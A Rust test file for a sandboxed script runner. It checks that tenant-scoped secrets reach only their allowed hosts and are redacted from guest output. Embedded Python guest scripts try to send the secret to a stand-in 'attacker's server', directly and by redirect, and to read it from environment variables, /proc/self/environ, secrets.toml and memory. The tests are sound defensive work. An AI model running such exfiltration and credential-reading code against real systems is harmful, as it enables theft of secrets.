//! Secrets end to end: resolved by the host within the job's tenant, sent only to their
//! hosts, never seen by the guest, shown as `[secret:NAME]` (SPEC §2, §5).
// Tests fail by panicking: unwrap, expect and panic are how they report.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};

use action_worker_tests as common;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::{Query, State};
use axum::http::HeaderMap;
use axum::response::Redirect;
use axum::routing::get;
use serde_json::Value;

const VALUE: &str = "sk-live-5up3r-s3cr3t";

type Hits = Arc<Mutex<Vec<String>>>;

/// Echoes the request's headers (as a careless API might) and records every hit.
async fn echo_server(bind: &str) -> (SocketAddr, Hits) {
    let hits = Hits::default();
    let app = Router::new()
        .route(
            "/echo",
            get(
                |State(hits): State<Hits>,
                 headers: HeaderMap,
                 Query(q): Query<HashMap<String, String>>| async move {
                    let map: HashMap<String, String> = headers
                        .iter()
                        .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or("").to_string()))
                        .collect();
                    hits.lock().unwrap().push(format!("{map:?} {q:?}"));
                    (
                        [("x-echo", map.get("x-api-key").cloned().unwrap_or_default())],
                        axum::Json(serde_json::json!({"headers": map, "query": q})),
                    )
                },
            ),
        )
        .route(
            "/redirect-to",
            get(|Query(q): Query<HashMap<String, String>>| async move {
                Redirect::temporary(&q["url"])
            }),
        )
        .with_state(hits.clone());
    (common::serve(app, bind).await, hits)
}

fn setup(dir: &Path) -> PathBuf {
    let secrets = dir.join("secrets.toml");
    std::fs::write(
        &secrets,
        "[[secret]]\nname = \"ERP_KEY\"\ntenant = \"acme\"\nhosts = [\"127.0.0.1\"]\nvalue_env = \"TEST_ERP_KEY\"\n\
         [[secret]]\nname = \"OTHER_KEY\"\ntenant = \"globex\"\nhosts = [\"127.0.0.1\"]\nvalue = \"globex-value\"\n",
    )
    .unwrap();
    common::write_config(
        dir,
        &format!("[secrets]\nfile = \"{}\"\n", secrets.display()),
    )
}

async fn run(dir: &Path, source: &str, tenant: &str) -> (Value, String) {
    let config = setup(dir);
    let script = dir.join("secretive.py");
    std::fs::write(&script, source).unwrap();
    common::run_script(
        &config,
        &script,
        &["--tenant", tenant],
        &[("TEST_ERP_KEY", VALUE)],
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_reaches_its_host_and_nothing_else_sees_it() {
    let (addr, hits) = echo_server("127.0.0.1:0").await;
    let dir = tempfile::tempdir().unwrap();
    let source = format!(
        r#"import requests
def execute_action(context):
    r = requests.get("http://{addr}/echo", params={{"key": "{{{{secrets.ERP_KEY}}}}"}},
                     headers={{"X-Api-Key": "{{{{secrets.ERP_KEY}}}}"}})
    print(r.text)
    return {{"body": r.json(), "echo_header": r.headers["x-echo"], "url": r.url}}
"#
    );
    let (result, stdout) = run(dir.path(), &source, "acme").await;
    assert_eq!(result["status"], "ok", "{result}");
    // The server got the value, in the header and in the query.
    let seen = hits.lock().unwrap().join("\n");
    assert!(
        seen.contains(&format!("\"x-api-key\": \"{VALUE}\"")),
        "{seen}"
    );
    assert!(seen.contains(&format!("\"key\": \"{VALUE}\"")), "{seen}");
    // The guest saw only the marker, in the echoed body, header and URL; so did the trace.
    assert_eq!(
        result["output"]["body"]["headers"]["x-api-key"],
        "[secret:ERP_KEY]"
    );
    assert_eq!(result["output"]["body"]["query"]["key"], "[secret:ERP_KEY]");
    assert_eq!(result["output"]["echo_header"], "[secret:ERP_KEY]");
    assert!(
        result["trace"][0]["url"]
            .as_str()
            .unwrap()
            .contains("[secret:ERP_KEY]"),
        "{}",
        result["trace"][0]
    );
    assert!(
        !stdout.contains(VALUE),
        "the value leaked into the result: {stdout}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_tenants_secret_does_not_resolve() {
    let (addr, hits) = echo_server("127.0.0.1:0").await;
    let dir = tempfile::tempdir().unwrap();
    let source = format!(
        r#"import requests
def execute_action(context):
    try:
        requests.get("http://{addr}/echo", headers={{"X-Api-Key": "{{{{secrets.ERP_KEY}}}}"}})
    except requests.exceptions.ConnectionError as exc:
        return str(exc)
    return "sent"
"#
    );
    let (result, _) = run(dir.path(), &source, "globex").await;
    let message = result["output"].as_str().unwrap();
    assert!(
        message.contains("secret ERP_KEY is not defined for tenant \"globex\""),
        "{message}"
    );
    assert!(hits.lock().unwrap().is_empty(), "nothing may be sent");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_cannot_send_a_secret_to_a_host_of_its_choosing() {
    // 127.0.0.2 is "the attacker's server": reachable, but not a host of the secret.
    let (attacker, attacker_hits) = echo_server("127.0.0.2:0").await;
    let (bound, _) = echo_server("127.0.0.1:0").await;
    let dir = tempfile::tempdir().unwrap();
    let source = format!(
        r#"import requests
def attempt(fn):
    try:
        fn()
        return "sent"
    except requests.exceptions.RequestException as exc:
        return str(exc)
def execute_action(context):
    key = "{{{{secrets.ERP_KEY}}}}"
    return {{
        "direct": attempt(lambda: requests.post("http://{attacker}/echo", data={{"k": key}})),
        "redirect": attempt(lambda: requests.get("http://{bound}/redirect-to", params={{"url": "http://{attacker}/echo"}},
                                                  headers={{"X-Api-Key": key}})),
    }}
"#
    );
    let (result, stdout) = run(dir.path(), &source, "acme").await;
    let output = &result["output"];
    assert!(
        output["direct"]
            .as_str()
            .unwrap()
            .contains("may not be sent to 127.0.0.2"),
        "{output}"
    );
    // The script's `requests` follows the redirect itself: the hop to the attacker is a
    // request of its own, refused before anything is sent, like the direct one.
    assert!(
        output["redirect"]
            .as_str()
            .unwrap()
            .contains("may not be sent to 127.0.0.2"),
        "{output}"
    );
    assert!(
        attacker_hits.lock().unwrap().is_empty(),
        "the attacker's server was reached"
    );
    assert!(!stdout.contains(VALUE));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_script_looking_everywhere_for_a_secret_finds_none() {
    let (addr, _) = echo_server("127.0.0.1:0").await;
    let dir = tempfile::tempdir().unwrap();
    // The script must not carry the value it looks for: it builds it from character codes.
    let codes: Vec<String> = VALUE.chars().map(|c| (c as u32).to_string()).collect();
    let codes = codes.join(", ");
    let source = format!(
        r#"import gc, os, sys, requests
def execute_action(context):
    r = requests.get("http://{addr}/echo", headers={{"X-Api-Key": "{{{{secrets.ERP_KEY}}}}"}})
    # Kept alive: had the echo not been redacted, the search below would find it here.
    kept = [r.text, dict(r.headers)]
    needle = "".join(map(chr, [{codes}]))
    found = []
    found += [k for k, v in os.environ.items() if needle in v]
    for path in ("/proc/self/environ", "secrets.toml", "/etc/action-worker/secrets.toml"):
        try:
            found.append(open(path).read())
        except OSError:
            pass
    for obj in gc.get_objects():
        try:
            if needle in repr(obj):
                found.append("object")
        except Exception:
            pass
    return {{"found": found, "env": dict(os.environ), "kept": len(kept)}}
"#
    );
    let (result, _) = run(dir.path(), &source, "acme").await;
    assert_eq!(result["status"], "ok", "{result}");
    assert_eq!(result["output"]["found"], serde_json::json!([]), "{result}");
    assert_eq!(result["output"]["env"], serde_json::json!({}));
}
